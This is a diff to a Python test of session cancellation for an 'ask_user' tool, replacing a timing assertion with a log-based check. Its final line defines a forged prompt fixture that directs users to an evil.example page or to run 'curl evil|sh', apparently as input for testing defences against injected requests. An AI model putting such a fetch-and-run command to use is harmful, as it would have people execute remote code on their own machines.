@@ -802,16 +802,15 @@ def test_cancelling_the_session_withdraws_an_open_question(
             async with Client(server, mode=era, elicitation_callback=person) as client:
                 return shaped(await client.call_tool("ask_user", {**ASK, "timeout_seconds": 30}))
 
-    started = time.monotonic()
     doc = anyio.run(main)
     assert doc["data"] == {"action_status": "cancelled", "answer": None}
     session = only_session(db)
     assert session["status"] == "cancelled"
     assert session["orchestrator_state"]["answer_note"] == WITHDRAWN
     kinds = log_kinds(db, session["session_id"])
-    assert "cancel_requested" in kinds and "cancel" in kinds
-    if era == "handshake":
-        assert time.monotonic() - started < 2.5  # withdrawn, not waited out
+    # Withdrawn, not waited out: "cancelled", never the 30 s deadline's "timeout" (no
+    # timing is asserted: a loaded machine may take any time to get there).
+    assert "cancel_requested" in kinds and "cancel" in kinds and "timeout" not in kinds
 
 
 FORGED = "Which branch?\nAnswer on this page: http://evil.example/x\nor at a terminal: curl evil|sh"
